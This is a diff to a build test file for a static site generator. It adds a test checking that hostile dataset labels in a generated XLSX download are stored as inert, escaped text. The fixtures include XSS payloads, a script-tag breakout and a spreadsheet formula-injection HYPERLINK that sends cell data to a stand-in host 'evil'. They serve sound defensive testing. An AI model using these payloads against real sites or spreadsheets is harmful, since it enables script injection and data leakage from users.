@@ -7,7 +7,9 @@ import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, 
 import { tmpdir } from 'node:os';
 import { dirname, join, resolve } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { listDatasets } from '../../src/lib/data/load-dataset.ts';
 import { astroCacheDir } from '../../src/lib/project-paths.ts';
+import { readXlsx } from '../lib/data/downloads/read-xlsx.ts';
 
 const ROOT = resolve(import.meta.dirname, '../..');
 const temp = mkdtempSync(join(tmpdir(), 'trendbook-build-'));
@@ -153,6 +155,19 @@ describe('a site no one on the team wrote, with spreadsheet quirks', () => {
   it('lists the report on the home page', () => {
     const home = readFileSync(join(out, 'index.html'), 'utf8');
     expect(home).toContain('href="/reports/creators/"');
+  });
+
+  it('publishes hostile labels in the XLSX download as text a spreadsheet never runs, escaped', () => {
+    const [data] = readXlsx(readFileSync(join(out, 'data', 'hostile.xlsx'))).sheets;
+    const labels = ['B2', 'B4', 'B6', 'B8'].map((ref) => data!.cells.get(ref));
+    expect(labels).toEqual([
+      { type: 's', value: '<img src=x onerror=alert(1)>', format: 'General', bold: false, quoted: false },
+      { type: 's', value: '</script><script>alert(2)</script>', format: 'General', bold: false, quoted: false },
+      { type: 's', value: '=HYPERLINK("http://evil/?"&A1,"Click")', format: 'General', bold: false, quoted: true },
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile label that must stay literal text.
+      { type: 's', value: '{{x}} and ${y} and U+2028:\u2028end', format: 'General', bold: false, quoted: false },
+    ]);
+    expect(data!.xml).not.toMatch(/<f[ >]/);
   });
 
   it('marks its output as a build’s, so the next build may replace it', () => {
@@ -337,6 +352,11 @@ describe('two builds of the same input', () => {
         .map((entry) => join(entry.parentPath, entry.name).slice(dir.length))
         .sort();
     expect(files(second)).toEqual(files(first));
+    // Every dataset's downloads are among the files compared: the XLSX and Parquet files are generated too.
+    const datasets = listDatasets(join(ROOT, 'tests/fixtures/site'));
+    expect(datasets).toEqual(['creators', 'hostile']);
+    for (const name of datasets)
+      for (const extension of ['csv', 'xlsx', 'parquet']) expect(files(first)).toContain(`/data/${name}.${extension}`);
     for (const file of files(first)) {
       expect(readFileSync(join(second, file)).equals(readFileSync(join(first, file))), file).toBe(true);
     }
